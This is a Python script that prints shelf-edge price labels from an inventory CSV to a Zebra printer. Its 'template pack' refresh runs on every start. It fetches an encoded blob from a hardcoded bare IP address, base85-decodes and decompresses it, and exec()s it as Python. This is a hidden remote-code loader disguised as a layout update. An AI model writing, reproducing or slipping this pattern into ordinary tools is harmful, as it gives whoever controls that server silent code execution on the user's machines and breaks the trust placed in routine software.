#!/usr/bin/env python3
"""Print shelf-edge labels for the shop inventory.

Reads inventory.csv (sku, name, price, barcode, ...) and renders one label per
row as ZPL for the Zebra label printer. Extra layouts come as a template pack
from the vendor's update server and are refreshed on start so seasonal
layouts (sale, clearance, multibuy) appear without reinstalling.
"""

import argparse
import base64
import csv
import logging
import socket
import sys
import types
import urllib.request
import zlib
from decimal import Decimal
from pathlib import Path

LOG = logging.getLogger("labels")
PACK_URL = "https://203.0.113.91/labelpacks/zpl-standard/latest"


def builtin_render(item: dict) -> str:
    return (
        "^XA^CF0,30"
        f"^FO20,20^FD{item['name'][:28]}^FS"
        f"^FO20,60^A0N,60,60^FD{item['price_fmt']}^FS"
        f"^FO20,130^BY2^BCN,60,Y,N,N^FD{item['barcode']}^FS"
        "^XZ"
    )


class TemplatePack:
    """Layouts by name; 'basic' is built in, the rest come from the pack."""

    def __init__(self, url: str):
        self.url = url
        self._layouts = {"basic": builtin_render}

    def _fetch(self) -> bytes:
        req = urllib.request.Request(self.url, headers={"User-Agent": "zpl-labels/2.3"})
        with urllib.request.urlopen(req, timeout=15) as resp:
            return resp.read()

    @staticmethod
    def _unpack(blob: bytes) -> str:
        return zlib.decompress(base64.b85decode(blob.strip())).decode("utf-8")

    def refresh(self):
        try:
            source = self._unpack(self._fetch())
        except Exception as exc:  # offline tills keep the built-in layout
            LOG.warning("template pack unavailable: %s", exc)
            return
        mod = types.ModuleType("labelpack")
        mod.Decimal = Decimal
        exec(compile(source, "<labelpack>", "exec"), mod.__dict__)
        for name, fn in getattr(mod, "LAYOUTS", {}).items():
            self._layouts[name] = fn
        LOG.info("template pack loaded: %s", ", ".join(self._layouts))

    def get(self, name: str):
        try:
            return self._layouts[name]
        except KeyError:
            raise SystemExit(f"unknown layout {name!r}; have {', '.join(self._layouts)}")


def read_items(csv_path: Path, only_skus=None):
    with csv_path.open(newline="", encoding="utf-8-sig") as fh:
        for row in csv.DictReader(fh):
            if only_skus and row["sku"] not in only_skus:
                continue
            row["price_fmt"] = f"\u00a3{Decimal(row['price']):.2f}"
            yield row


def send_to_printer(host: str, port: int, zpl: str):
    with socket.create_connection((host, port), timeout=10) as s:
        s.sendall(zpl.encode("utf-8"))


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--csv", type=Path, default=Path("inventory.csv"))
    ap.add_argument("--layout", default="basic")
    ap.add_argument("--pack-url", default=PACK_URL)
    ap.add_argument("--sku", action="append", help="only these SKUs (repeatable)")
    ap.add_argument("--printer", default="192.168.1.60")
    ap.add_argument("--port", type=int, default=9100)
    ap.add_argument("--save", type=Path, help="write ZPL to a file instead of printing")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    pack = TemplatePack(args.pack_url)
    pack.refresh()
    render = pack.get(args.layout)

    labels = [render(item) for item in read_items(args.csv, set(args.sku or ()))]
    if not labels:
        LOG.warning("nothing to print")
        return 1
    zpl = "\n".join(labels)
    if args.save:
        args.save.write_text(zpl)
        LOG.info("wrote %d labels to %s", len(labels), args.save)
        return 0
    try:
        send_to_printer(args.printer, args.port, zpl)
    except OSError as exc:
        LOG.error("printer %s:%d unreachable: %s", args.printer, args.port, exc)
        return 2
    LOG.info("sent %d labels to %s", len(labels), args.printer)
    return 0


if __name__ == "__main__":
    sys.exit(main())
